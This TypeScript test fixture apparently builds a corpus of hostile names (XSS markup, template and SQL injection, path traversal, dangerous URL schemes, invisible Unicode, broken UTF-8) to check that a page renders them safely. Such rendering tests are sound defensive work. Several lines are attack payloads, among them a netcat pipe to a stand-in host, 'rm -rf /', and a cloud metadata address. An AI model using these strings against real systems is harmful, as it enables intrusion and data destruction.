/** One name as somebody might write it on chain. */
export interface HostileName {
  readonly bytes: Uint8Array;
  /** What must be shown of it: all of it as plain text, or something marked as altered. */
  readonly expect: 'as text' | 'marked';
}

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const asText = (text: string): HostileName => ({ bytes: utf8(text), expect: 'as text' });
const marked = (text: string): HostileName => ({ bytes: utf8(text), expect: 'marked' });

/** Short enough to be shown whole, so that the page's text can be compared with them. */
const MARKUP = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<script>alert(1)</script>',
  '</script><b>x',
  '</title><i>x',
  '<iframe src=//evil.test>',
  '<a href=//evil.test>win</a>',
  '<style>*{display:none}',
  '<base href=//evil.test>',
  '<form action=//evil.test>',
  '<input autofocus onfocus=a>',
  '<math><mtext><b>',
  '<details open ontoggle=a>',
  '<object data=//evil.test>',
  '<embed src=//evil.test>',
  '<link rel=stylesheet href=x>',
  '<meta http-equiv=refresh>',
  '<!--',
  '-->',
  ']]>',
  '&lt;b&gt;',
  '&#x3c;b&#62;',
  '{{7*7}}',
  `\${7*7}`,
  '<%= 7*7 %>',
  '#{7*7}',
  '[click](javascript:alert(1))',
  '![x](http://127.0.0.1/x.png)',
  'url(http://127.0.0.1/x.png)',
  '"><b>x',
  "'><b>x",
  '" onclick="alert(1)',
  "';alert(1)//",
  '`-alert(1)-`',
  '\\u003cb\\u003e',
  '%3Cb%3E',
  '$(touch /tmp/x)',
  '; rm -rf /',
  '| nc evil.test 1',
  "'; DROP TABLE x; --",
  '../../etc/passwd',
  '=HYPERLINK("//evil.test")',
  '+cmd|x!A1',
  '@SUM(1+1)',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'undefined',
  'null',
  'NaN',
  'Infinity',
  'true',
  '[object Object]',
  '0',
  '-1',
] as const;

const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<b>x',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'smb://evil.test/x',
  '\\\\evil.test\\share',
  'vscode://x/y',
  'ms-msdt:/id',
  'ssh://evil.test',
  'blob:null/x',
  'https://good.test@evil.test',
  'http://127.0.0.1:9944',
  'http://169.254.169.254/',
  'https://xn--80ak6aa92e.test',
  '//evil.test',
] as const;

/** Nothing to see, but something there: each must go, and its going be said. */
const UNSEEN = [
  '\u200b', '\u200c', '\u200d', '\u200e', '\u200f', '\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2060', '\u2061',
  '\u2062', '\u2063', '\u2064', '\u2066', '\u2067', '\u2068', '\u2069', '\u206a', '\u206f', '\ufeff', '\u00ad', '\u061c',
  '\u180e', '\u2028', '\u2029', '\u0000', '\u0001', '\u0007', '\u0008', '\u001b', '\u007f', '\u0085', '\u009b', '\u034f',
  '\u115f', '\u3164', '\uffa0', '\ufe0f', '\ue000', '\u{e0001}', '\u{e0041}', '\u{e007f}', '\u{f0000}', '\u{1d173}', '\u0378',
] as const; // biome-ignore format: one table

const LONG = [
  'x'.repeat(256),
  'W'.repeat(256),
  '界'.repeat(85),
  '👩‍👩‍👧‍👦'.repeat(10),
  'Z\u0351\u036b\u0343\u036a\u0349'.repeat(23),
  `a${'\u0301'.repeat(127)}`,
  'word '.repeat(51),
  '﷽'.repeat(85),
] as const;

const BROKEN: readonly Uint8Array[] = [
  Uint8Array.of(0xff, 0xfe, 0xfd),
  Uint8Array.of(0xc3, 0x28),
  Uint8Array.of(0xe2, 0x82),
  Uint8Array.of(0xed, 0xa0, 0x80),
  Uint8Array.of(0xf0, 0x9f),
  Uint8Array.of(0xc0, 0xaf),
];

/** Everything from SECURITY's scenarios 80 to 84 that fits a name. */
export const HOSTILE_CORPUS: readonly HostileName[] = [
  ...MARKUP.map(asText),
  ...SCHEMES.map(asText),
  ...UNSEEN.map((char) => marked(`A${char}B`)),
  ...LONG.map(marked),
];

/** Bytes that are no text: whatever they become, they must not hurt. */
export const BROKEN_NAMES = BROKEN;
